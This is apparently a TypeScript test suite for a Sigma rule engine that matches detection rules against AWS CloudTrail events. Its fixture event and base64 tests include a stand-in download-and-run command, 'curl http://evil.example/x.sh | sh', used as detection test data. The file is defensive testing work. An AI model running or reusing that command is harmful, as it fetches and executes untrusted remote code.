// The Sigma engine on single records: one test per feature of the detection section.
import * as assert from 'node:assert/strict';
import { parseSigmaRules, SigmaRule } from '../../../src/core/detect/rule';
import { explainMatch, ruleMatches } from '../../../src/core/detect/evaluate';

function rule(detection: string, extra = ''): SigmaRule {
  const text = `title: t\nid: 00000000-0000-4000-8000-000000000000\nlevel: high\nlogsource:\n  product: aws\n  service: cloudtrail\n${extra}detection:\n${detection.replace(/^/gm, '  ')}\n`;
  const parsed = parseSigmaRules(text, 'test.yml');
  assert.deepEqual(parsed.problems, [], JSON.stringify(parsed.problems));
  assert.equal(parsed.rules.length, 1);
  return parsed.rules[0];
}
function problem(detection: string, logsource = 'product: aws\n  service: cloudtrail'): string {
  const text = `title: t\nlogsource:\n  ${logsource}\ndetection:\n${detection.replace(/^/gm, '  ')}\n`;
  const parsed = parseSigmaRules(text, 'test.yml');
  assert.equal(parsed.rules.length, 0, 'the rule must not load');
  assert.equal(parsed.problems.length, 1);
  return parsed.problems[0].reason;
}

const ev = {
  eventName: 'PutBucketPolicy',
  eventSource: 's3.amazonaws.com',
  sourceIPAddress: '203.0.113.9',
  readOnly: false,
  errorCode: null,
  userAgent: 'aws-cli/2.15 Python/3.11 -- --profile x',
  requestParameters: {
    bucketName: 'Logs*Bucket',
    port: 22,
    policy: { Statement: [{ Effect: 'Allow', Principal: '*' }] },
    items: [{ userId: '111122223333' }, { userId: 'all' }],
    encoded: Buffer.from('curl http://evil.example/x.sh | sh').toString('base64'),
    inner: 'prefix ' + Buffer.from('echo hacked').toString('base64'),
  },
  userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::111122223333:user/Alice' },
};
const yes = (r: SigmaRule, e: unknown = ev) => assert.equal(ruleMatches(r, e), true);
const no = (r: SigmaRule, e: unknown = ev) => assert.equal(ruleMatches(r, e), false);

describe('Sigma engine', () => {
  it('plain values: whole value, case-insensitive, numbers and booleans by text', () => {
    yes(rule('sel:\n  eventName: putbucketpolicy\ncondition: sel'));
    no(rule('sel:\n  eventName: PutBucket\ncondition: sel'));
    yes(rule('sel:\n  requestParameters.port: 22\ncondition: sel'));
    yes(rule("sel:\n  requestParameters.port: '22'\ncondition: sel"));
    yes(rule('sel:\n  readOnly: false\ncondition: sel'));
    no(rule('sel:\n  readOnly: true\ncondition: sel'));
  });

  it('digits with leading zeros are the text written, not a number (account IDs)', () => {
    const account = rule('s:\n  recipientAccountId: 012345678901\ncondition: s');
    yes(account, { recipientAccountId: '012345678901' });
    no(account, { recipientAccountId: '12345678901' });
    const listed = rule('s:\n  recipientAccountId:\n    - 000000000000\n    - 443\ncondition: s');
    yes(listed, { recipientAccountId: '000000000000' });
    no(listed, { recipientAccountId: '0' });
    yes(listed, { recipientAccountId: 443 });
    const gt = rule('s:\n  requestParameters.port|gt: 0021\ncondition: s');
    yes(gt, { requestParameters: { port: 22 } });
  });

  it('wildcards * and ?, and backslash escapes', () => {
    yes(rule("sel:\n  eventName: 'Put*Pol?cy'\ncondition: sel"));
    no(rule("sel:\n  eventName: 'Put?Policy'\ncondition: sel"));
    yes(rule("sel:\n  requestParameters.bucketName: 'logs\\*bucket'\ncondition: sel"));
    no(rule("sel:\n  requestParameters.bucketName: 'logs\\*b'\ncondition: sel"));
    no(rule("sel:\n  requestParameters.bucketName: 'logs\\*xbucket'\ncondition: sel"));
    yes(rule("sel:\n  userIdentity.arn: 'arn:aws:iam::*:user/alice'\ncondition: sel"));
  });

  it('lists OR, maps AND, a list of maps ORs the maps', () => {
    yes(rule('sel:\n  eventName:\n    - DeleteTrail\n    - PutBucketPolicy\ncondition: sel'));
    no(
      rule('sel:\n  eventName: PutBucketPolicy\n  eventSource: ec2.amazonaws.com\ncondition: sel'),
    );
    yes(
      rule('sel:\n  - eventName: DeleteTrail\n  - eventSource: s3.amazonaws.com\ncondition: sel'),
    );
  });

  it('null: absent or null', () => {
    yes(rule('sel:\n  errorCode: null\ncondition: sel'));
    yes(rule('sel:\n  errorMessage: null\ncondition: sel'));
    no(rule('sel:\n  eventName: null\ncondition: sel'));
  });

  it('dotted paths fan out over arrays and compare nested objects by their JSON', () => {
    yes(rule('sel:\n  requestParameters.items.userId: all\ncondition: sel'));
    yes(rule('sel:\n  requestParameters.policy|contains: \'"Principal":"*"\'\ncondition: sel'));
    no(rule("sel:\n  requestParameters.items.userId: '999'\ncondition: sel"));
  });

  it('contains, startswith, endswith', () => {
    yes(rule('sel:\n  userAgent|contains: python\ncondition: sel'));
    yes(rule('sel:\n  userAgent|startswith: AWS-CLI\ncondition: sel'));
    no(rule('sel:\n  userAgent|startswith: python\ncondition: sel'));
    yes(rule("sel:\n  userAgent|endswith: 'profile x'\ncondition: sel"));
    yes(rule("sel:\n  userAgent|contains: 'py*on'\ncondition: sel"));
  });

  it('all: every listed value must match', () => {
    yes(rule('sel:\n  userAgent|contains|all:\n    - aws-cli\n    - python\ncondition: sel'));
    no(rule('sel:\n  userAgent|contains|all:\n    - aws-cli\n    - boto3\ncondition: sel'));
    yes(rule('sel:\n  userAgent|contains:\n    - aws-cli\n    - boto3\ncondition: sel'));
  });

  it('re: unanchored, case-sensitive unless |i or (?i)', () => {
    yes(rule("sel:\n  userAgent|re: 'Python/3\\.\\d+'\ncondition: sel"));
    no(rule("sel:\n  userAgent|re: 'python/3'\ncondition: sel"));
    yes(rule("sel:\n  userAgent|re|i: 'python/3'\ncondition: sel"));
    yes(rule("sel:\n  userAgent|re: '(?i)PYTHON/3'\ncondition: sel"));
    // |m: ^ and $ at each line; |s: . matches a line break; pySigma's long names alike.
    const lines = { ...ev, requestParameters: { script: 'echo a\ncurl x' } };
    no(rule("sel:\n  requestParameters.script|re: '^curl'\ncondition: sel"), lines);
    yes(rule("sel:\n  requestParameters.script|re|m: '^curl'\ncondition: sel"), lines);
    yes(rule("sel:\n  requestParameters.script|re|multiline: '^curl'\ncondition: sel"), lines);
    no(rule("sel:\n  requestParameters.script|re: 'a.curl'\ncondition: sel"), lines);
    yes(rule("sel:\n  requestParameters.script|re|s: 'a.curl'\ncondition: sel"), lines);
    yes(rule("sel:\n  requestParameters.script|re|dotall: 'a.curl'\ncondition: sel"), lines);
    yes(rule("sel:\n  userAgent|re|ignorecase: 'python/3'\ncondition: sel"));
    yes(rule("sel:\n  userAgent|re|i|m|s: 'python/3'\ncondition: sel"));
    assert.match(
      problem("sel:\n  userAgent|re: '(['\ncondition: sel"),
      /not a valid regular expression/,
    );
  });

  it('cidr: IPv4 and IPv6 networks', () => {
    yes(rule("sel:\n  sourceIPAddress|cidr: '203.0.113.0/24'\ncondition: sel"));
    no(rule("sel:\n  sourceIPAddress|cidr: '203.0.112.0/24'\ncondition: sel"));
    yes(
      rule(
        "sel:\n  sourceIPAddress|cidr:\n    - '10.0.0.0/8'\n    - '203.0.0.0/8'\ncondition: sel",
      ),
    );
    const v6 = { ...ev, sourceIPAddress: '2001:db8::1' };
    yes(rule("sel:\n  sourceIPAddress|cidr: '2001:db8::/32'\ncondition: sel"), v6);
    no(rule("sel:\n  sourceIPAddress|cidr: '2001:db9::/32'\ncondition: sel"), v6);
    no(rule("sel:\n  sourceIPAddress|cidr: '203.0.113.0/24'\ncondition: sel"), {
      ...ev,
      sourceIPAddress: 'ec2.amazonaws.com',
    });
    assert.match(problem("sel:\n  sourceIPAddress|cidr: 'nonsense'\ncondition: sel"), /not a CIDR/);
  });

  it('cidr: an IPv4-mapped IPv6 address is the IPv4 address it carries', () => {
    const ten = rule("sel:\n  sourceIPAddress|cidr: '10.0.0.0/8'\ncondition: sel");
    const mappedTen = rule("sel:\n  sourceIPAddress|cidr: '::ffff:10.0.0.0/104'\ncondition: sel");
    const notTen = rule(
      "sel:\n  eventName: PutBucketPolicy\nten:\n  sourceIPAddress|cidr: '10.0.0.0/8'\ncondition: sel and not ten",
    );
    for (const ip of ['::ffff:10.1.2.3', '::FFFF:10.1.2.3', '::ffff:a01:203', '::FFFF:A01:203']) {
      const e = { ...ev, sourceIPAddress: ip };
      yes(ten, e);
      yes(mappedTen, e);
      no(notTen, e);
    }
    yes(mappedTen, { ...ev, sourceIPAddress: '10.1.2.3' });
    for (const ip of ['::ffff:11.1.2.3', '::10.1.2.3', '::ffff:10.1.2.3%eth0']) {
      no(ten, { ...ev, sourceIPAddress: ip });
      yes(notTen, { ...ev, sourceIPAddress: ip });
    }
  });

  it('neq: the field is not the value (pySigma: the field test negated), strings and numbers', () => {
    no(rule('sel:\n  eventName|neq: putbucketpolicy\ncondition: sel'));
    yes(rule('sel:\n  eventName|neq: GetObject\ncondition: sel'));
    no(rule('sel:\n  requestParameters.port|neq: 22\ncondition: sel'));
    yes(rule('sel:\n  requestParameters.port|neq: 23\ncondition: sel'));
    // A list: none of the values (the negation of "any of them").
    no(rule('sel:\n  eventName|neq:\n    - GetObject\n    - PutBucketPolicy\ncondition: sel'));
    yes(rule('sel:\n  eventName|neq:\n    - GetObject\n    - ListBuckets\ncondition: sel'));
    // An absent field is not the value.
    yes(rule('sel:\n  requestParameters.nothing|neq: x\ncondition: sel'));
    // With other modifiers: the whole test negated.
    no(rule('sel:\n  eventName|contains|neq: bucket\ncondition: sel'));
    yes(rule('sel:\n  eventName|contains|cased|neq: bucket\ncondition: sel'));
    yes(rule('sel:\n  sourceIPAddress|cidr|neq: 10.0.0.0/8\ncondition: sel'));
    // In a selection with other fields, as in the specification's use.
    const notAlice = rule(
      'sel:\n  eventName: PutBucketPolicy\n  userIdentity.arn|endswith|neq: /Alice\ncondition: sel',
    );
    no(notAlice);
    yes(notAlice, { ...ev, userIdentity: { ...ev.userIdentity, arn: 'arn:aws:iam::1:user/Bob' } });
    assert.match(
      explainMatch(rule('sel:\n  eventName|neq: GetObject\ncondition: sel'), ev)[0].condition,
      /^not equals 'GetObject'$/,
    );
  });

  it('exists: true and false', () => {
    yes(rule('sel:\n  requestParameters.bucketName|exists: true\ncondition: sel'));
    no(rule('sel:\n  requestParameters.nothing|exists: true\ncondition: sel'));
    yes(rule('sel:\n  errorCode|exists: false\ncondition: sel'));
  });

  it('base64 and base64offset', () => {
    yes(
      rule(
        "sel:\n  requestParameters.encoded|base64: 'curl http://evil.example/x.sh | sh'\ncondition: sel",
      ),
    );
    no(rule("sel:\n  requestParameters.encoded|base64: 'curl'\ncondition: sel"));
    yes(
      rule(
        "sel:\n  requestParameters.encoded|base64offset|contains: 'evil.example'\ncondition: sel",
      ),
    );
    yes(rule("sel:\n  requestParameters.inner|base64offset|contains: 'hacked'\ncondition: sel"));
    no(
      rule(
        "sel:\n  requestParameters.encoded|base64offset|contains: 'good.example'\ncondition: sel",
      ),
    );
  });

  it('windash: a leading dash also matches slash and unicode dashes', () => {
    const slash = { ...ev, userAgent: 'tool /profile x' };
    const en = { ...ev, userAgent: 'tool \u2013profile x' };
    const r = rule("sel:\n  userAgent|windash|contains: ' -profile'\ncondition: sel");
    yes(r, slash);
    yes(r, en);
    no(r);
    no(rule("sel:\n  userAgent|contains: ' -profile'\ncondition: sel"), slash);
  });

  it('cased: case-sensitive matching', () => {
    no(rule('sel:\n  eventName|cased: putbucketpolicy\ncondition: sel'));
    yes(rule('sel:\n  eventName|cased: PutBucketPolicy\ncondition: sel'));
    no(rule('sel:\n  userAgent|contains|cased: PYTHON\ncondition: sel'));
  });

  it('numeric comparisons lt/lte/gt/gte', () => {
    yes(rule('sel:\n  requestParameters.port|lt: 23\ncondition: sel'));
    no(rule('sel:\n  requestParameters.port|gt: 22\ncondition: sel'));
    yes(rule('sel:\n  requestParameters.port|gte: 22\ncondition: sel'));
  });

  it('keywords: a value anywhere in the record', () => {
    yes(rule("keywords:\n  - '*nothing*'\n  - '*user/alice'\ncondition: keywords"));
    no(rule("keywords:\n  - 'nowhere'\ncondition: keywords"));
    // A full-text search: a keyword is found inside a value (the specification's own examples).
    yes(rule("keywords:\n  - 'user/alice'\ncondition: keywords"));
    yes(rule("keywords:\n  '|all':\n    - 'aws-cli/'\n    - ' --profile '\ncondition: keywords"));
    no(rule("keywords:\n  '|all':\n    - 'aws-cli/'\n    - ' --nothing '\ncondition: keywords"));
    no(rule("keywords:\n  - 'requestParameters'\ncondition: keywords")); // a key, not a value
    yes(rule("keywords:\n  '|re': '^aws-cli/'\ncondition: keywords"));
    no(rule("keywords:\n  '|re': '^-- --profile'\ncondition: keywords"));
    yes(rule("keywords:\n  '|startswith': 'aws-cli/'\ncondition: keywords"));
    no(rule("keywords:\n  '|startswith': 'Python'\ncondition: keywords"));
  });

  it('conditions: and, or, not, parentheses and precedence', () => {
    const sels =
      'a:\n  eventName: PutBucketPolicy\nb:\n  eventSource: ec2.amazonaws.com\nc:\n  readOnly: false\n';
    yes(rule(`${sels}condition: a and not b`));
    no(rule(`${sels}condition: a and b`));
    yes(rule(`${sels}condition: b or a and c`));
    no(rule(`${sels}condition: (b or a) and not c`));
    yes(rule(`${sels}condition: not (b and a)`));
    yes(rule(`${sels}condition: not not a`));
    yes(rule(`${sels}condition:\n  - b\n  - a`));
  });

  it('1 of / all of a pattern and of them (them leaves out _ names)', () => {
    const sels =
      'sel_a:\n  eventName: PutBucketPolicy\nsel_b:\n  eventSource: ec2.amazonaws.com\nfilter:\n  readOnly: false\n_x:\n  eventName: Nothing\n';
    yes(rule(`${sels}condition: 1 of sel_*`));
    no(rule(`${sels}condition: all of sel_*`));
    yes(rule(`${sels}condition: 1 of sel_* and filter`));
    yes(rule(`${sels}condition: 1 of them`));
    no(rule(`${sels}condition: all of them`));
    const three =
      'sel_a:\n  eventName: PutBucketPolicy\nsel_b:\n  eventSource: s3.amazonaws.com\nsel_c:\n  eventName: X\n';
    yes(rule(`${three}condition: 2 of sel_*`));
    no(rule(`${three}condition: 3 of sel_*`));
    yes(rule(`${three}condition: all of sel_a or sel_c`));
  });

  it('reports what it cannot run fully, with the reason, and never loads it', () => {
    assert.match(problem('sel:\n  eventName: x\ncondition: sel | count() > 5'), /aggregation/);
    assert.match(problem('sel:\n  eventName: x\ntimeframe: 5m\ncondition: sel'), /timeframe/);
    assert.match(
      problem('sel:\n  eventName|frobnicate: x\ncondition: sel'),
      /unknown modifier \|frobnicate/,
    );
    assert.match(problem('sel:\n  eventName|expand: "%x%"\ncondition: sel'), /expand/);
    // The specification's time modifiers: not run, and said so by name.
    for (const m of ['minute', 'hour', 'day', 'week', 'month', 'year'])
      assert.match(
        problem(`sel:\n  eventTime|${m}: 3\ncondition: sel`),
        new RegExp(`modifier \\|${m}: .*time`),
        m,
      );
    for (const m of ['utf16le', 'utf16be', 'utf16', 'wide', 'gzip'])
      assert.match(
        problem(`sel:\n  eventName|base64|${m}: x\ncondition: sel`),
        new RegExp(`\\|${m}`),
        m,
      );
    assert.match(problem('sel:\n  eventName|i: x\ncondition: sel'), /\|i applies only after \|re/);
    assert.match(
      problem('sel:\n  eventName: x\ncondition: sel', 'product: windows\n  service: security'),
      /not product: aws, service: cloudtrail/,
    );
    assert.match(
      problem('sel:\n  eventName: x\ncondition: sel and other'),
      /no selection named 'other'/,
    );
    assert.match(problem('sel:\n  eventName: x\ncondition: (sel'), /not closed/);
    assert.match(problem('sel:\n  eventName: x\ncondition: 1 of nothing*'), /no selection matches/);
    const corr = parseSigmaRules(
      'title: c\ncorrelation:\n  type: event_count\n  rules: [a]\n',
      'c.yml',
    );
    assert.equal(corr.rules.length, 0);
    assert.match(corr.problems[0].reason, /correlation/);
    assert.equal(corr.problems[0].kind, 'unsupported');
    const bad = parseSigmaRules('title: [unclosed', 'bad.yml');
    assert.equal(bad.problems[0].kind, 'invalid');
  });

  it('several rules in one file (YAML documents), each with its metadata', () => {
    const text = [
      'title: one\nid: a\nlevel: low\ntags: [attack.T1078]\nfalsepositives: [admins]\nlogsource: {product: aws, service: cloudtrail}\ndetection: {s: {eventName: X}, condition: s}',
      'title: two\nlogsource: {product: aws, service: cloudtrail}\ndetection: {s: {eventName: Y}, condition: s}',
    ].join('\n---\n');
    const parsed = parseSigmaRules(text, 'many.yml');
    assert.equal(parsed.rules.length, 2);
    assert.deepEqual(
      [
        parsed.rules[0].id,
        parsed.rules[0].level,
        parsed.rules[0].tags,
        parsed.rules[0].falsepositives,
      ],
      ['a', 'low', ['attack.t1078'], ['admins']],
    );
    assert.equal(parsed.rules[1].id, 'two');
    assert.equal(parsed.rules[1].level, 'medium');
  });

  it('explains a match by the field tests that held', () => {
    const r = rule(
      'sel:\n  eventName: PutBucketPolicy\n  userAgent|contains: python\nfilter:\n  userIdentity.type: Root\ncondition: sel and not filter',
    );
    const why = explainMatch(r, ev);
    assert.deepEqual(
      why.map((w) => [w.field, w.values[0]]),
      [
        ['eventName', 'PutBucketPolicy'],
        ['userAgent', ev.userAgent],
      ],
    );
  });
});

describe('Sigma engine: fields that are objects', () => {
  it('a path ending on an object is searched in its JSON text and in every string inside it', () => {
    const e = {
      eventName: 'PutUserPolicy',
      requestParameters: {
        userName: 'u',
        policyDocument: '{"Effect":"Allow","Action":"s3:GetObject"}',
      },
    };
    yes(
      rule(
        'sel:\n  requestParameters|contains|all:\n    - \'"s3:GetObject"\'\n    - \'"Allow"\'\ncondition: sel',
      ),
      e,
    );
    yes(rule('sel:\n  requestParameters|contains: \'"userName":"u"\'\ncondition: sel'), e);
    no(rule('sel:\n  requestParameters|contains: \'"s3:PutObject"\'\ncondition: sel'), e);
  });
});

describe('Sigma engine: fieldref', () => {
  const e = {
    eventName: 'CreateAccessKey',
    userIdentity: { arn: 'arn:aws:iam::1:user/Alice', userName: 'alice' },
    requestParameters: { userName: 'alice' },
  };
  const other = { ...e, requestParameters: { userName: 'bob' } };
  it('compares with another field of the same record, alone or with contains/startswith/endswith', () => {
    yes(
      rule('sel:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel'),
      e,
    );
    no(
      rule('sel:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel'),
      other,
    );
    yes(
      rule(
        'sel:\n  userIdentity.arn|fieldref|endswith: requestParameters.userName\ncondition: sel',
      ),
      e,
    );
    no(
      rule(
        'sel:\n  userIdentity.arn|fieldref|endswith|cased: requestParameters.userName\ncondition: sel',
      ),
      e,
    );
    yes(
      rule(
        'sel:\n  userIdentity.arn|fieldref|contains: requestParameters.userName\ncondition: sel',
      ),
      e,
    );
    no(
      rule(
        'sel:\n  userIdentity.arn|fieldref|startswith: requestParameters.userName\ncondition: sel',
      ),
      e,
    );
    yes(
      rule(
        'sel:\n  eventName: CreateAccessKey\nself:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel and not self',
      ),
      other,
    );
    no(
      rule('sel:\n  userIdentity.userName|fieldref: requestParameters.nothing\ncondition: sel'),
      e,
    );
    assert.match(problem('sel:\n  a|fieldref|re: b\ncondition: sel'), /cannot be combined/);
    // A wildcard names no field: refused (pySigma too), not a rule that never matches.
    for (const ref of ["'requestParameters.*'", "'userIdentity.userNam?'"])
      assert.match(
        problem(`sel:\n  userIdentity.userName|fieldref: ${ref}\ncondition: sel`),
        /\|fieldref takes field names, not wildcards/,
        ref,
      );
  });

  it('exists and fieldref need a field: as keywords they would match nearly every event', () => {
    for (const [mods, value] of [
      ['exists', 'true'],
      ['exists', 'false'],
      ['fieldref', 'eventSource'],
      ['contains|fieldref', 'eventSource'],
    ])
      assert.match(
        problem(`sel:\n  '|${mods}': ${value}\ncondition: sel`),
        new RegExp(`\\|${mods.split('|').pop()} needs a field`),
        mods,
      );
  });
});
